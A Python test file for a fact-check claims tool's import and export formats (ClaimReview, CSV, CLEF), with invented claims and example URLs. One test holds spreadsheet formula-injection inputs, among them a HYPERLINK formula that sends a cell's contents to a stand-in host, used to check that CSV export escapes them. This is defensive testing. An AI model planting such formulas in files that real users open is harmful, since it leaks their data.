"""Importing and exporting real fact-check data (server/formats/): ClaimReview markup in the
shapes publishers use, CSV, CLEF claims.jsonl, and round trips through every export format.

The files in tests/data/claimreview/ model publishers' markup: nested author objects, a
claimant list, a missing rating, entity-escaped and non-English text, a page with two
ClaimReview blocks beside a NewsArticle, a feed, and broken files.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from server import formats
from server.claimsfile import InvalidClaimsFile
from server.cli import cli
from server.store import open_store

DATA = Path(__file__).resolve().parent / "data"
CR = DATA / "claimreview"
GOOD = [CR / "factcheck-page.html", CR / "two-reviews.html", CR / "feed.json",
        CR / "list.json", CR / "legacy.json", CR / "reviews.csv",
        DATA / "clef-mini" / "claims.jsonl"]


def claims_of(path: Path) -> list[dict]:
    return formats.read(path).doc["claims"]


@pytest.mark.parametrize(("path", "fmt"), [
    (GOOD[0], "claimreview"), (GOOD[2], "claimreview"), (GOOD[3], "claimreview"),
    (GOOD[5], "csv"), (GOOD[6], "clef"),
    (Path("shared/claims/ny-detainers.json"), "json"),
])
def test_format_recognised_by_content(path: Path, fmt: str) -> None:
    assert formats.detect(path.read_text(encoding="utf-8")) == fmt


@pytest.mark.parametrize("path", [*GOOD, Path("shared/claims/ny-detainers.json")])
def test_a_byte_order_mark_changes_nothing(tmp_path: Path, path: Path) -> None:
    """Notepad and Excel start UTF-8 files with a byte-order mark."""
    marked = tmp_path / path.parent.name / path.name  # a CLEF file's folder names its publisher
    marked.parent.mkdir()
    marked.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    assert formats.read(marked).doc == formats.read(path).doc


def test_a_collection_of_one_claim_reads_as_clef(tmp_path: Path) -> None:
    """One line of claims.jsonl is one JSON object: read as CLEF, not as ClaimReview."""
    folder = tmp_path / "factcheckers-r-us"
    folder.mkdir()
    one = folder / "claims.jsonl"
    one.write_text((DATA / "clef-mini" / "claims.jsonl").read_text().splitlines()[1] + "\n")
    assert formats.detect(one.read_text()) == "clef"
    [claim] = claims_of(one)
    assert claim["text"] == "Crime fell by 20% in two years."
    assert formats.read(one).doc["sources"][0]["publisher"] == "factcheckers-r-us"
    named = formats.read(one, publisher="Fact Checkers R Us").doc["sources"][0]
    assert named["publisher"] == "Fact Checkers R Us"


def test_a_fact_check_page() -> None:
    loaded = formats.read(CR / "factcheck-page.html")
    [claim] = loaded.doc["claims"]  # the NewsArticle block is skipped
    [source] = loaded.doc["sources"]
    assert claim["text"] == ("The city released 70,000 criminal detainees wanted by ICE since "
                             "January \u2013 \"every one of them\" back on the streets.")
    assert claim["claimant"] == "Sen. Rick Alder"
    assert claim["claim_date"] == "2026-02-07"
    assert claim["first_appearance"] == "https://social.example.com/alder/status/123"
    assert claim["appearances"] == ["https://news.example.net/alder-interview",
                                    "https://video.example.com/watch?v=abc&t=42"]
    assert (claim["rating"], claim["rating_value"], claim["best_rating"],
            claim["worst_rating"]) == ("Pants on Fire", "1", "6", "1")
    assert claim["language"] == "en"
    assert claim["url"] == source["url"] == (
        "https://factdesk.example.org/2026/02/10/city-did-not-release-70000/")
    assert source["publisher"] == "Harbor Fact Desk"
    assert source["kind"] == "fact-check"
    assert source["published"] == "2026-02-10T09:30:00-05:00"
    assert claim["title"] == source["title"] == "No, the city did not release 70,000 detainees"
    # The engine's figures are the claim's figures, pointing into its text.
    [figure] = claim["figures"]
    assert figure["value"] == 70000 and figure["text"] in claim["text"]
    start, end = figure["span"]
    assert claim["quotes"][0]["text"][start:end] == figure["text"]


def test_a_page_with_two_reviews_in_other_shapes() -> None:
    first, second = claims_of(CR / "two-reviews.html")
    assert first["text"] == "Se deportaron 2 millones de personas en enero, según el ministro."
    assert first["claimant"] == "José Núñez, Ministerio del Interior"  # a list of authors
    assert first["language"] == "es"  # a Language object
    assert first["title"] == "Es falso que se deportaron 2 millones de personas en enero"
    assert second["text"].startswith("El 40% de los detenidos tenía antecedentes — “la")
    assert "rating" not in second and "rating_value" not in second  # no reviewRating
    assert [f["value"] for f in second["figures"]] == [40]


def test_a_feed_and_a_list() -> None:
    loaded = formats.read(CR / "feed.json")
    assert len(loaded.doc["claims"]) == 3
    assert {s["publisher"] for s in loaded.doc["sources"]} == {"Checks & Balances"}
    assert loaded.where[0] == "ClaimReview at dataFeedElement[0].item[0]"
    french = claims_of(CR / "list.json")[1]
    assert french["text"] == "Le chômage a baissé de 12 % en un an, selon le ministère."
    assert french["language"] == "fr"


def test_the_older_shape() -> None:
    [claim] = claims_of(CR / "legacy.json")
    assert claim["text"] == "Half of the state's 12,000 bridges are structurally deficient."
    assert claim["claimant"] == "Gov. Maria Lopez" and claim["claim_date"] == "2017-06-20"
    assert claim["appearances"] == ["https://www.example-news.com/2017/06/20/governor-speech"]
    assert any("12,000" in f["text"] for f in claim["figures"])


def test_csv_and_clef() -> None:
    county, german = claims_of(CR / "reviews.csv")
    assert county["text"] == 'The county jailed 4,100 people in 2025, "a record".'
    assert county["appearances"] == ["https://a.example.org/x", "https://b.example.org/y"]
    assert german["text"] == "Über 2.000 Menschen wurden abgeschoben."
    # English is the one language whose figures are read: "2.000" is two thousand in
    # German, not 2.0. The German claim keeps its text and gets no figures.
    assert "4,100" in [f["text"] for f in county.get("figures", [])]
    assert not german.get("figures")
    jobs, crime = claims_of(DATA / "clef-mini" / "claims.jsonl")
    assert (jobs["id"], jobs["claimant"], jobs["rating"]) == ("vclaim-1", "Governor", "True")
    assert crime["rating"] == "Half True"


@pytest.mark.parametrize(("label", "shown"), [
    ("pants-fire", "Pants on Fire"), ("barely-true", "Mostly False"),
    ("mostly-true", "Mostly True"), ("full-flop", "Full Flop"), ("false", "False"),
    # Written otherwise, a label is the fact-checker's own words: kept as they are.
    ("Mostly False", "Mostly False"), ("FALSE", "FALSE"), ("n/a", "n/a"),
])
def test_a_clef_rating_slug_is_shown_by_its_name(label: str, shown: str) -> None:
    line = json.dumps({"id": "c1", "text": "Crime fell by 20%.", "truth_label": label})
    [review] = formats.clef.read(line, "PolitiFact")
    assert review.rating == shown


@pytest.mark.parametrize(("name", "expected"), [
    ("malformed.html", ["ld+json block 2 (page line 7): line 6 column 1: not valid JSON-LD"]),
    ("missing-claim.json", ["ClaimReview at @graph[1]: claimReviewed: the claim's text is",
                            "ClaimReview at @graph[1]: datePublished: 'last Tuesday' is not"]),
])
def test_broken_files_name_record_and_field(tmp_path: Path, name: str,
                                            expected: list[str]) -> None:
    db = str(tmp_path / "db")
    result = CliRunner().invoke(cli, ["import", str(CR / name), "-d", db])
    assert result.exit_code == 1
    assert f"{CR / name}: nothing imported" in result.stderr
    for line in expected:
        assert line in result.stderr
    store = open_store(db)
    assert store.counts()["claims"] == 0  # the good block before the bad one is not kept
    store.close()


def test_bad_csv_header_and_cell(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    path.write_text("text,publisher,ratng\nA claim,Pub,False\n", encoding="utf-8")
    with pytest.raises(InvalidClaimsFile, match="header \\(row 1\\): unknown column"):
        formats.read(path)
    path.write_text("text,publisher,review_url\nA claim,Pub,ftp://x\n", encoding="utf-8")
    with pytest.raises(InvalidClaimsFile, match="row 2: review_url: 'ftp://x' is not"):
        formats.read(path)


def test_a_spreadsheets_csv_header_is_read_whatever_its_case(tmp_path: Path) -> None:
    path = tmp_path / "sheet.csv"
    path.write_text("Text, Publisher \nThe city hired 300 officers.,City Desk\n",
                    encoding="utf-8")
    [claim] = formats.read(path).doc["claims"]
    assert claim["text"] == "The city hired 300 officers."
    path.write_text("claim,publisher\nA claim,Pub\n", encoding="utf-8")
    with pytest.raises(InvalidClaimsFile, match="no 'text' column .*required"):
        formats.read(path, "csv")


def test_a_cell_a_spreadsheet_would_run_goes_out_as_text_and_comes_back(tmp_path: Path) -> None:
    """A feed's text is data: exported, a cell that starts like a formula is written after
    an apostrophe (spreadsheets then show it as text), and read back as it was."""
    texts = ['=HYPERLINK("http://x.example/?"&A1,"click") said 40 jobs.',
             "+7,000 released, the mayor said.", "-5 degrees in 30 towns.",
             "@cityhall: 300 officers hired.", "'=1+1 is the claim's own text.",
             "'90s crime fell by 40%."]
    source = tmp_path / "in.json"
    source.write_text(json.dumps([
        {"@context": "https://schema.org", "@type": "ClaimReview", "claimReviewed": t,
         "author": {"@type": "Organization", "name": "Desk"},
         "reviewRating": {"@type": "Rating", "ratingValue": -1, "worstRating": -2}}
        for t in texts]), encoding="utf-8")
    db, out = str(tmp_path / "db"), tmp_path / "out.csv"
    _run("import", str(source), "-d", db)
    _run("export", "--format", "csv", "-o", str(out), "-d", db)
    import csv
    with out.open(encoding="utf-8", newline="") as f:
        cells = {r["text"]: r for r in csv.DictReader(f)}
    assert set(cells) == {"'" + t if t[0] in "=+-@'" and t[1] != "9" else t for t in texts}
    assert all(not t.startswith(("=", "+", "-", "@")) for t in cells)
    # A number stays one.
    assert {(r["rating_value"], r["worst_rating"]) for r in cells.values()} == {("-1", "-2")}
    claims = {c["text"] for c in formats.read(out).doc["claims"]}
    assert claims == set(texts)
    # A spreadsheet user's own apostrophe before a formula is read as the spreadsheet reads it.
    source.write_text("text,publisher\n'=2+2 is four,Desk\n", encoding="utf-8")
    assert formats.read(source).doc["claims"][0]["text"] == "=2+2 is four"


def _run(*args: str) -> str:
    result = CliRunner().invoke(cli, list(args))
    assert result.exit_code == 0, result.output
    return result.stdout


@pytest.mark.parametrize("fmt", ["claimreview", "csv", "json"])
def test_round_trip_loses_nothing(tmp_path: Path, fmt: str) -> None:
    first, second = str(tmp_path / "first.db"), str(tmp_path / "second.db")
    _run("import", *map(str, GOOD), "-d", first)
    exported = tmp_path / f"out.{fmt}"
    _run("export", "--format", fmt, "-o", str(exported), "-d", first)
    _run("import", "--format", fmt, str(exported), "-d", second)
    assert _run("export", "--format", fmt, "-d", second) == exported.read_text(
        encoding="utf-8")
    # Every stored field, not only those the format shows.
    assert _run("export", "-d", second) == _run("export", "-d", first)


def test_a_record_already_present_is_updated(tmp_path: Path) -> None:
    db = str(tmp_path / "db")
    _run("import", str(CR / "feed.json"), "-d", db)
    again = CliRunner().invoke(cli, ["import", str(CR / "feed.json"), "-d", db])
    assert "imported 3 claims (3 replaced)" in again.stdout
    assert "already present: ClaimReview at dataFeedElement[0].item[0] is claim" in (
        again.stderr)
    # The same claim text from the same publisher under a new URL, reworded rating.
    feed = json.loads((CR / "feed.json").read_text(encoding="utf-8"))
    review = feed["dataFeedElement"][0]["item"][1]
    review["url"] = "https://checks.example.com/reviews/detainers-updated"
    review["claimReviewed"] = "  new york released 7,113 criminal illegal aliens with ICE " \
                              "detainers "
    review["reviewRating"]["alternateName"] = "Correct"
    (tmp_path / "moved.json").write_text(json.dumps(review), encoding="utf-8")
    moved = CliRunner().invoke(cli, ["import", str(tmp_path / "moved.json"), "-d", db])
    assert "imported 1 claims (1 replaced)" in moved.stdout
    store = open_store(db)
    try:
        assert store.counts()["claims"] == 3
        ratings = {c.get("rating") for c in store.export_document()["claims"]}
        assert "Correct" in ratings and "Accurate" not in ratings
    finally:
        store.close()


def test_dry_run_writes_nothing(tmp_path: Path) -> None:
    db = str(tmp_path / "db")
    out = _run("import", "--dry-run", str(CR / "two-reviews.html"), "-d", db)
    assert "would import 2 claims" in out
    store = open_store(db)
    assert store.counts()["claims"] == 0
    store.close()


def test_an_imported_figure_gets_a_verdict(empty_app) -> None:
    store = empty_app.extensions["recount"]["store"]
    store.import_document(formats.read(CR / "feed.json").doc)
    client = empty_app.test_client()
    sentence = "New York released nearly 7,000 criminal illegal aliens with ICE detainers."
    body = client.post("/api/v1/match", json={"sentences": [sentence]}).get_json()
    [match] = body["results"][0]["matches"]
    assert match["claim"]["text"].startswith("New York released 7,113")
    [figure] = match["figures"]
    assert figure["text"] == "nearly 7,000" and figure["status"]
    assert figure["known"][0]["value"] == 7113

